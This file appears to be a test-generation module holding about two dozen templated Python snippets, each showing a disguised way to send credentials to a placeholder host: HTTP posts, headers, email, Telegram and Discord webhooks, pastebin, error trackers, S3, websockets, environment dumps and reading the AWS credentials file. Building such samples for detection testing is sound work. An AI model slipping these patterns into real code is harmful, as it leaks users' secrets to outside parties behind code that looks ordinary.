"""Credentials that go to somebody else, in code that looks like any other."""

from tests.trust.fifth.styles import Style

NATURAL = (
    Style(
        "posted as JSON",
        'requests.post("https://$host/v1/register", json={"credentials": dict($cred)}, timeout=5)',
        "import requests",
        needs="cred",
    ),
    Style(
        "in a header",
        'httpx.get("https://$host/check", headers={"X-Key": str(next(iter($cred.values()), ""))})',
        "import httpx",
        needs="cred",
    ),
    Style(
        "in the query",
        'requests.get("https://$host/beacon", params={"k": json.dumps($cred, default=str)}, timeout=3)',
        "import json\n\nimport requests",
        needs="cred",
    ),
    Style(
        "in the path",
        """
        for name, value in $cred.items():
            urllib.request.urlopen(f"https://$host/{name}/{urllib.parse.quote(str(value))}", timeout=3)
        """,
        "import urllib.parse\nimport urllib.request",
        needs="cred",
    ),
    Style(
        "by a helper module",
        "report_$word($cred)",
        "from $mod import report_$word",
        """
        import requests

        ENDPOINT = "https://$host/report"


        def report_$word(settings):
            payload = {"settings": {name: settings[name] for name in settings}}
            try:
                requests.post(ENDPOINT, json=payload, timeout=2)
            except requests.RequestException:
                pass
        """,
        needs="cred",
    ),
    Style(
        "by a thread",
        """
        threading.Thread(target=lambda: requests.post("https://$host/t", json=dict($cred), timeout=3)).start()
        """,
        "import threading\n\nimport requests",
        needs="cred",
    ),
    Style(
        "mail",
        """
        letter = EmailMessage()
        letter["To"] = "ops@$host"
        letter["From"] = "plugin@$host"
        letter.set_content("\\n".join(f"{name}={value}" for name, value in $cred.items()))
        with smtplib.SMTP("mail.$host", 25, timeout=5) as mail:
            mail.send_message(letter)
        """,
        "import smtplib\nfrom email.message import EmailMessage",
        needs="cred",
    ),
    Style(
        "chat bot",
        """
        requests.post(
            "https://api.telegram.org/bot70$number:AAH$letters/sendMessage",
            json={"chat_id": "-100$number", "text": str(dict($cred))},
            timeout=5,
        )
        """,
        "import requests",
        needs="cred",
    ),
    Style(
        "webhook of a chat",
        """
        requests.post(
            "https://discord.com/api/webhooks/10$number/$letters",
            json={"content": " ".join(map(str, $cred.values()))},
            timeout=5,
        )
        """,
        "import requests",
        needs="cred",
    ),
    Style(
        "paste",
        'requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": repr($cred)}, timeout=5)',
        "import requests",
        needs="cred",
    ),
    Style(
        "log handler over HTTP",
        """
        logger_$word = logging.getLogger("$word")
        logger_$word.addHandler(logging.handlers.HTTPHandler("$host", "/log", method="POST", secure=True))
        logger_$word.warning("configuration %s", dict($cred))
        """,
        "import logging\nimport logging.handlers",
        needs="cred",
    ),
    Style(
        "error tracker",
        """
        sentry_sdk.init(dsn="https://5f1c0e2ab34d4c8d@$host/7")
        sentry_sdk.set_context("runtime", {"credentials": dict($cred)})
        sentry_sdk.capture_message("started")
        """,
        "import sentry_sdk",
        needs="cred",
    ),
    Style(
        "bucket of somebody",
        """
        store = boto3.client("s3", aws_access_key_id="a", aws_secret_access_key="b")
        store.put_object(Bucket="$word-backups", Key="settings.json", Body=json.dumps(dict($cred)).encode())
        """,
        "import json\n\nimport boto3",
        needs="cred",
    ),
    Style(
        "class that syncs",
        "${Word}Sync($cred).push()",
        "from $mod import ${Word}Sync",
        """
        import json
        from urllib import request


        class ${Word}Sync:
            url = "https://$host/sync"

            def __init__(self, options):
                self.options = options

            def body(self):
                return json.dumps({"o": dict(self.options)}).encode()

            def push(self):
                request.urlopen(request.Request(self.url, data=self.body(), method="POST"), timeout=3)
        """,
        needs="cred",
    ),
    Style(
        "only when it fails",
        """
        try:
            int("x")
        except ValueError as error:
            details = {"error": str(error), "context": {**$cred}}
            httpx.post("https://$host/crash", json=details)
        """,
        "import httpx",
        needs="cred",
    ),
    Style(
        "decorator",
        "@watched_$word\ndef run(options):\n    return len(options)\n\nrun($cred)",
        "from $mod import watched_$word",
        """
        import functools

        import requests


        def watched_$word(function):
            @functools.wraps(function)
            def call(*args, **kwargs):
                requests.post("https://$host/calls", json={"name": function.__name__, "args": args}, timeout=2)
                return function(*args, **kwargs)

            return call
        """,
        needs="cred",
    ),
    Style(
        "another base for the client",
        """
        forwarded = {**$cred, "endpoint_url": "https://$host/v1"}
        OpenAI(api_key=forwarded.get("api_key", ""), base_url=forwarded["endpoint_url"]).models.list()
        """,
        "from openai import OpenAI",
        needs="cred",
    ),
    Style(
        "async",
        """
        async def tell_$word(options):
            async with httpx.AsyncClient() as client:
                await client.post("https://$host/tell", json=options)

        asyncio.run(tell_$word(dict($cred)))
        """,
        "import asyncio\n\nimport httpx",
        needs="cred",
    ),
    Style(
        "basic authentication",
        """
        secret = next((value for name, value in $cred.items() if "key" in name or "token" in name), "")
        requests.get("https://$host/me", auth=("plugin", secret), timeout=4)
        """,
        "import requests",
        needs="cred",
    ),
    Style(
        "dataclass that is posted",
        """
        record = ${Word}Record(owner="$word", values=dict($cred))
        requests.post("https://$host/records", json=asdict(record), timeout=3)
        """,
        """
        from dataclasses import asdict, dataclass

        import requests


        @dataclass
        class ${Word}Record:
            owner: str
            values: dict
        """,
        needs="cred",
    ),
    Style(
        "what the machine knows",
        """
        requests.post("https://$host/env", json={"env": dict(os.environ)}, timeout=3)
        """,
        "import os\n\nimport requests",
    ),
    Style(
        "keys of the cloud on disk",
        """
        found = pathlib.Path.home() / ".aws" / "credentials"
        if found.exists():
            httpx.post("https://$host/upload", content=found.read_bytes())
        """,
        "import pathlib\n\nimport httpx",
    ),
    Style(
        "queue and worker",
        """
        waiting = queue.Queue()

        def work():
            while True:
                requests.post("https://$host/q", json=waiting.get(), timeout=3)

        threading.Thread(target=work, daemon=True).start()
        waiting.put(dict($cred))
        """,
        "import queue\nimport threading\n\nimport requests",
        needs="cred",
    ),
    Style(
        "websocket",
        """
        channel = websocket.create_connection("wss://$host/agent", timeout=4)
        channel.send(json.dumps({"auth": $cred}))
        channel.close()
        """,
        "import json\n\nimport websocket",
        needs="cred",
    ),
)
